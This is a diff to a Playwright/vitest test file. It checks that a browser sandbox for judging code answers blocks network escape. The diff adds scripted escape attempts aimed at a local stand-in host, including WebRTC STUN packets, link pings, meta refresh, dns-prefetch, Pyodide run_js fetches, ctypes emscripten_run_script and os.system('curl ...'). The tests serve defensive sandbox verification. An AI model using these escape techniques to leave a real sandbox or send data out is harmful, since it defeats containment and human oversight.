@@ -1,6 +1,7 @@
 // Nothing leaves the sandbox: a server counts while answers, and raw scripts in the frame and in a worker of its kind, try each way
 // out. From a worker, where answers run, not even a connection is made. A document may make an empty one: Chromium connects ahead of
 // an inner frame before it asks the policy, and then sends nothing; only our own script runs there.
+import { createSocket, type Socket } from "node:dgram";
 import { createServer, type Server } from "node:net";
 import { type Browser, chromium, type Frame, type Page } from "playwright";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
@@ -8,7 +9,10 @@ import { chromiumFlags, findChromium } from "../../scripts/find_chromium.mjs";
 import { type JudgeSite, serveJudgePage } from "../../src/cli/judge_browser.ts";
 
 let outside: Server;
+let outsideUdp: Socket;
 let target: string;
+/** UDP packets, which WebRTC sends. */
+let packets = 0;
 let connections = 0;
 let requests = 0;
 let site: JudgeSite;
@@ -28,6 +32,9 @@ beforeAll(async () => {
   await new Promise<void>((resolve) => outside.listen(0, "127.0.0.1", resolve));
   const address = outside.address();
   target = `127.0.0.1:${typeof address === "object" ? address?.port : ""}`;
+  outsideUdp = createSocket("udp4", () => packets++);
+  const port = typeof address === "object" && address ? address.port : 0;
+  await new Promise<void>((resolve) => outsideUdp.bind(port, "127.0.0.1", resolve));
   site = await serveJudgePage();
   const executablePath = findChromium();
   if (!executablePath) throw new Error("no Chromium found");
@@ -47,6 +54,7 @@ afterAll(async () => {
   await browser?.close();
   await site?.close();
   outside?.close();
+  outsideUdp?.close();
 });
 
 /** Time for a request that was let through to arrive. */
@@ -71,6 +79,10 @@ describe("scripts in the frame", () => {
     ["WebTransport", "new WebTransport('https://TARGET/')"],
     ["import", "import('http://TARGET/x.mjs').catch(() => {})"],
     ["worker", "new Worker('http://TARGET/x.js')"],
+    [
+      "WebRTC",
+      "(() => { const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:TARGET' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); })()",
+    ],
     ["worker from data", "new Worker('data:text/javascript,fetch(\"http://TARGET/\")')"],
     ["script by eval", "(0, eval)('fetch(\"http://TARGET/\")')"],
   ];
@@ -82,6 +94,18 @@ describe("scripts in the frame", () => {
       "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://TARGET/x.css' }))",
     ],
     ["prefetch", "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'http://TARGET/' }))"],
+    [
+      "DNS prefetch",
+      "document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://TARGET/' }))",
+    ],
+    [
+      "preload",
+      "document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: 'http://TARGET/' }))",
+    ],
+    [
+      "link with ping",
+      "(() => { const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://TARGET/'; document.body.append(a); a.click(); })()",
+    ],
     ["inner frame", "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://TARGET/' }))"],
     [
       "form",
@@ -93,7 +117,7 @@ describe("scripts in the frame", () => {
   ];
 
   test.each([...WAYS, ...IN_DOCUMENT])("%s", async (_, source) => {
-    const before = requests;
+    const before = requests + packets;
     await frame.evaluate(
       (code) => {
         try {
@@ -109,11 +133,11 @@ describe("scripts in the frame", () => {
     // Playwright's own evaluate passes the script policy, so that the other directives are tried too.
     if (!source.includes("eval")) await frame.evaluate(source.replaceAll("TARGET", target)).catch(() => {});
     await settle();
-    expect(requests).toBe(before);
+    expect(requests + packets).toBe(before);
   });
 
   test.each(WAYS)("%s in a worker", async (_, source) => {
-    const before = connections;
+    const before = connections + packets;
     await frame.evaluate(
       (code) => {
         const url = URL.createObjectURL(new Blob([`try { ${code} } catch (error) {}`], { type: "text/javascript" }));
@@ -122,7 +146,7 @@ describe("scripts in the frame", () => {
       source.replaceAll("TARGET", target),
     );
     await settle();
-    expect(connections).toBe(before);
+    expect(connections + packets).toBe(before);
   });
 
   test("storage is out of reach", async () => {
@@ -149,6 +173,15 @@ test("answers that try to get out", async () => {
     "from pyodide.code import run_js\n    run_js('fetch(\"http://TARGET/\")')",
     "import pyodide_js\n    pyodide_js.loadPackage('http://TARGET/x.whl')",
     "import os\n    os.system('curl http://TARGET/')",
+    "from js import fetch\n    fetch('http://TARGET/')",
+    "from pyodide.code import run_js\n    run_js('new WebSocket(\"ws://TARGET/\")')",
+    "from pyodide.code import run_js\n    run_js('import(\"http://TARGET/x.mjs\")')",
+    "from pyodide.code import run_js\n    run_js('importScripts(\"http://TARGET/x.js\")')",
+    'from pyodide.code import run_js\n    run_js(\'new Worker(URL.createObjectURL(new Blob(["fetch(\\"http://TARGET/\\")"])))\')',
+    "from pyodide.code import run_js\n    run_js('location.href = \"http://TARGET/\"')",
+    "from pyodide.code import run_js\n    run_js('(async () => { const w = Object.getPrototypeOf(self); for (const n of Object.getOwnPropertyNames(w)) try { self[n](\"http://TARGET/\") } catch (e) {} })()')",
+    "import js.fetch",
+    "import ctypes\n    ctypes.CDLL(None).emscripten_run_script(b'fetch(\"http://TARGET/\")')",
     "import gc\n    for o in gc.get_objects():\n        if type(o).__name__ == 'JsProxy':\n            o.constructor.constructor('fetch(\"http://TARGET/\")')()",
   ];
   const answers = bodies.map((body) => ({
@@ -169,3 +202,28 @@ test("answers that try to get out", async () => {
   await settle();
   expect(connections).toBe(before);
 }, 60_000);
+
+test.each([
+  ["by its location", "location.href = 'http://TARGET/'"],
+  [
+    "by a refreshing meta element",
+    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://TARGET/' }))",
+  ],
+  ["by a link", "(() => { const a = document.createElement('a'); a.href = 'http://TARGET/'; document.body.append(a); a.click(); })()"],
+])(
+  "the frame cannot go elsewhere %s",
+  async (_, source) => {
+    const own = await browser.newPage(); // a frame that was refused shows an error page from then on
+    for (const name of ["tellVerdicts", "keptReference", "keepReference"]) await own.exposeFunction(name, () => null);
+    await own.goto(site.url);
+    await own.evaluate(() => window.judgePage.open(1));
+    const inner = own.frames().find((candidate) => candidate.url().endsWith("frame.html"));
+    const before = requests;
+    await inner?.evaluate(source.replaceAll("TARGET", target)).catch(() => {});
+    await settle();
+    expect(inner).toBeDefined();
+    expect(requests).toBe(before);
+    await own.close();
+  },
+  60_000,
+);
